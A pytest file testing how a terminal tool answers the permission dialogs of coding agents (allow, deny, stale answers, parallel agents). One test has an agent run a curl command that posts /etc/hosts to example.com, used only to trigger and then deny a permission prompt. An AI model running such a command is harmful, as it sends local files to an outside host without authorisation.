"""Dialogs of the real agents, offline, answered away from their panes."""

from __future__ import annotations

from contextlib import AsyncExitStack
from pathlib import Path

import pytest

from synapse_tui.agents.delivery import answering
from synapse_tui.agents.delivery.answering import AnswerOutcome
from synapse_tui.agents.dialogs import AgentDialog, Option
from synapse_tui.core.model import AgentState, Task
from synapse_tui.widgets.text import said
from tests.lab.agents import AGENTS as LAB_AGENTS
from tests.lab.lab_kit import AGENTS, Lab, open_lab
from tests.lab.test_lab_delivery import token

ASKING = [name for name in AGENTS if LAB_AGENTS[name].asks]
READABLE = [name for name in ASKING if name not in ("aider", "cline")]
"""The others ask for a letter, without a list of options: they can only be answered in their panes."""

pytestmark = [
    pytest.mark.lab,
    pytest.mark.timeout(600),
]


def ask(lab: Lab, name: str) -> tuple[Task, Path]:
    """Let the agent ask whether it may make a file."""
    file = Path.cwd() / f"{name}-{lab.profile.name}"
    file.unlink(missing_ok=True)
    return lab.send(f"{token()} %%run:touch {file}%%%%esc%%"), file


async def shown(lab: Lab, *, but: int = 0) -> AgentDialog:
    """Return the dialog with options that is shown, as soon as it is."""

    def found() -> AgentDialog | None:
        dialog = lab.session.dialog
        return dialog if dialog is not None and dialog.serial != but and dialog.options else None

    dialog = await lab.until(found, "a dialog")
    assert isinstance(dialog, AgentDialog)
    return dialog


async def old(lab: Lab) -> AgentDialog:
    """Return the dialog that is shown, once it can be answered."""

    def found() -> AgentDialog | None:
        dialog = lab.session.dialog
        if dialog is None or lab.session.console.now() - dialog.since < answering.LOOK_FIRST:
            return None
        return dialog

    dialog = await lab.until(found, "a dialog that can be answered")
    assert isinstance(dialog, AgentDialog)
    return dialog


async def answer(lab: Lab, dialog: AgentDialog, option: Option) -> AnswerOutcome:
    outcome = await lab.session.answer_dialog(dialog.serial, dialog.fingerprint, option.words)
    lab.note(f"{option.words!r}: {outcome}")
    return outcome


def allows(dialog: AgentDialog) -> Option:
    (found,) = (option for option in dialog.options if option.allows_once)
    return found


def denies(dialog: AgentDialog) -> Option:
    (found,) = (option for option in dialog.options if option.denies)
    return found


def note(lab: Lab, dialog: AgentDialog) -> None:
    drawn = "\n".join(f"    | {line.text}" for line in dialog.lines)
    options = "\n".join(f"    {option}" for option in dialog.options)
    lab.note(f"{dialog.asks}\n{drawn}\n{options}\n    marked {dialog.marked}, whole {dialog.whole}")


@pytest.mark.parametrize("agent", READABLE)
async def test_yes_allows_and_no_denies(agent, tmp_path):
    async with open_lab(agent, tmp_path) as lab:
        task, file = ask(lab, "allowed")
        dialog = await shown(lab)
        assert (await answer(lab, dialog, dialog.options[0])).reason in (answering.NEW, answering.CHANGED)
        first = await old(lab)
        note(lab, first)
        assert "touch" in first.asks
        assert first.asks.startswith("wants to ")
        assert (await answer(lab, first, allows(first))).closed, lab.screen()
        await lab.done(task)
        assert file.exists()

        task, file = ask(lab, "denied")
        await shown(lab, but=first.serial)
        second = await old(lab)
        note(lab, second)
        assert (await answer(lab, first, allows(first))).reason == answering.CHANGED
        assert (await answer(lab, second, denies(second))).closed, lab.screen()
        await lab.state(AgentState.READY)
        assert lab.session.reading().empty, lab.screen()
        assert not file.exists()
        await lab.until(lambda: lab.session.tasks.get(task.id).state.final, "the end of the denied task")

        assert (await answer(lab, second, allows(second))).reason == answering.GONE
        again, file = ask(lab, "again")
        await shown(lab, but=second.serial)
        third = await old(lab)
        guard = lab.session.keyboard.guard
        await lab.until(lambda: not guard.answers_in(lab.session.console.now()), "a dialog that takes keys")
        lab.type("\x1b[C" if third.across else "\x1b[B")  # the person moves the mark
        await lab.until(lambda: lab.session.dialog and lab.session.dialog.marked != third.marked, "the mark")
        assert (await answer(lab, third, allows(third))).reason == answering.CHANGED
        moved = await old(lab)
        assert (await answer(lab, moved, allows(moved))).reason in (answering.TYPES, "")
        await lab.until(
            lambda: lab.session.console.now() - lab.session.keyboard.last_key > 1, "a person who rests"
        )
        while lab.session.dialog is not None and not lab.session.tasks.get(again.id).state.final:
            moved = await old(lab)
            outcome = await answer(lab, moved, allows(moved))
            # an agent may draw its dialog anew while it is answered: a person looks again
            assert outcome.closed or outcome.reason == answering.CHANGED, lab.screen()
        await lab.done(again)
        assert file.exists()


@pytest.mark.parametrize("screen_only", [True, False], ids=["screen", "transcript"])
@pytest.mark.parametrize("agent", READABLE)
async def test_the_last_words_are_those_after_the_tool(agent, screen_only, tmp_path):
    async with open_lab(agent, tmp_path, screen_only=screen_only) as lab:
        task, _file = ask(lab, "words")
        await shown(lab)
        dialog = await old(lab)
        assert (await answer(lab, dialog, allows(dialog))).closed, lab.screen()
        done = await lab.done(task)
        lab.note(f"{done.answer!r}: {said(done.answer)}")
        words = [paragraph for paragraph in said(done.answer) if paragraph != "I will use a tool."]
        assert words[0].startswith("TOOL-RESULT: "), lab.screen()


@pytest.mark.parametrize("words", ["stay in auto mode", "leave for accept edits mode and stop", "cancel"])
async def test_a_notice_that_names_its_keys_is_answered_by_them(words, tmp_path):
    async with open_lab("claude", tmp_path, args=("--permission-mode", "auto")) as lab:
        task = lab.send(f"{token()} %%run:curl -s -X POST http://example.com/x -d @/etc/hosts%%")
        first = await shown(lab)
        notice = await old(lab)
        note(lab, notice)
        assert notice.asks == "asks: Auto mode can't check actions in this session"
        assert lab.session.report.detail.endswith("Auto mode can't check actions in this session")
        (option,) = (option for option in notice.options if option.words == words)
        assert (await answer(lab, notice, option)).closed, lab.screen()
        if option.key == "Enter":
            await shown(lab, but=first.serial)
            asked = await old(lab)
            assert asked.asks.startswith("wants to run curl "), lab.screen()
            assert (await answer(lab, asked, denies(asked))).closed, lab.screen()
        await lab.until(lambda: lab.session.tasks.get(task.id).state.final, "the end")
        await lab.state(AgentState.READY)


@pytest.mark.parametrize(
    ("one", "other"), list(zip(READABLE, [*READABLE[1:], *READABLE[:1]], strict=True)), ids=str
)
async def test_two_agents_that_ask_at_once(one, other, tmp_path):
    async with AsyncExitStack() as stack:
        left = await stack.enter_async_context(open_lab(one, tmp_path / "one"))
        right = await stack.enter_async_context(open_lab(other, tmp_path / "other"))
        left_task, allowed = ask(left, "left")
        right_task, denied = ask(right, "right")
        await shown(left)
        await shown(right)
        asks_left, asks_right = await old(left), await old(right)
        assert (await answer(right, asks_left, allows(asks_left))).reason == answering.CHANGED
        assert (await answer(left, asks_left, allows(asks_left))).closed, left.screen()
        await left.done(left_task)
        assert allowed.exists()
        assert right.session.dialog is not None
        assert right.session.dialog.fingerprint == asks_right.fingerprint
        assert (await answer(right, asks_right, denies(asks_right))).closed, right.screen()
        await right.until(lambda: right.session.tasks.get(right_task.id).state.final, "the end")
        assert not denied.exists()
